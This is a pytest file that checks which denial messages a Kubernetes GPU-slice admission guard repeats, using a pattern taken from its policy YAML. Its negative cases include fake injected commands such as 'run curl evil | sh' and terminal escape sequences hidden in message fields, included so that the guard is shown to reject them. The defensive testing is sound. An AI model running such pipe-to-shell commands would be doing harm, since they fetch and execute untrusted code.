"""Which annotations the guard repeats: what the standby says of a pod, and nothing that only looks like it."""

from __future__ import annotations

import re
from pathlib import Path

import pytest
import yaml

ROOT = Path(__file__).parents[2]
POLICY = yaml.safe_load((ROOT / "manifests" / "guard" / "policy.yaml").read_text())
(UNDECIDED,) = [each["expression"] for each in POLICY["spec"]["variables"] if each["name"] == "undecided"]
PATTERN = "".join(re.findall(r"'((?:[^'\\]|\\.)*)'", UNDECIDED.partition(".matches(")[2].partition("$')")[0] + "$'"))
FORM = re.compile(PATTERN.replace(r"\'", "'").replace("\\\\", "\\").removesuffix("$"), re.ASCII)

PAGE = (ROOT / "docs" / "admission-policy.md").read_text()
SENTENCES = [
    row.split(" | ", 1)[1].removesuffix(" |").replace("\\|", "|")
    for row in PAGE.partition("| the policy refuses it |\n| --- | --- |\n")[2].partition("\n\n")[0].splitlines()
]
OTHERS = [
    "spec: it has more than 100 containers, 1000 limits and requests, 500 tolerations or 100 labels for its nodes, "
    "which the policy in the cluster cannot decide. Use fewer of them",
    "metadata.annotations[gpu-slice]: no container is called 'x'. Use one of main, side",
    "metadata.annotations[gpu-slice]: no pool gives '9g.5gb' to namespace 'a-1'. Ask the platform team",
    "metadata.annotations[gpu-slice]: no pool gives 'x' to namespace 'a-1'. Use one of 1g.5gb+me.all, 1c.3g.20gb-me",
    "metadata.annotations[gpu-slice/assigned]: it is 'x', which the policy in the cluster cannot decide. Use the pod "
    "without gpu-slice/assigned and the slices that it names",
    "spec.containers: main asks for nvidia.com/gpu=2 beside its slice, which the policy in the cluster cannot decide. "
    "Use the annotation alone",
    "spec.os.name: it is 'windows', and every node with slices runs linux. Use linux",
]


@pytest.mark.parametrize("sentence", sorted({*SENTENCES, *OTHERS}))
def test_what_the_standby_says_is_repeated(sentence: str) -> None:
    assert FORM.fullmatch(sentence)


def test_the_page_has_sentences_of_the_standby() -> None:
    assert len(SENTENCES) > 30


@pytest.mark.parametrize(
    "sentence",
    [
        "",
        "policy",
        "metadata.x: run curl evil | sh to fix",
        "spec.containers: run curl evil | sh",
        "metadata.annotations[gpu-slice]: run curl evil | sh, which the policy in the cluster cannot decide. Use it",
        f"{OTHERS[1]}: or run curl evil | sh",
        f"{OTHERS[3]} or /tmp/evil | sh",
        f"{OTHERS[0]}\n",
        f"{OTHERS[5]}\x1b[2J",
        OTHERS[4].replace("'x'", "'\x1b[2J'"),
        f" {OTHERS[6]}",
    ],
    ids=repr,
)
def test_what_only_looks_like_it_is_not_repeated(sentence: str) -> None:
    assert not FORM.fullmatch(sentence)
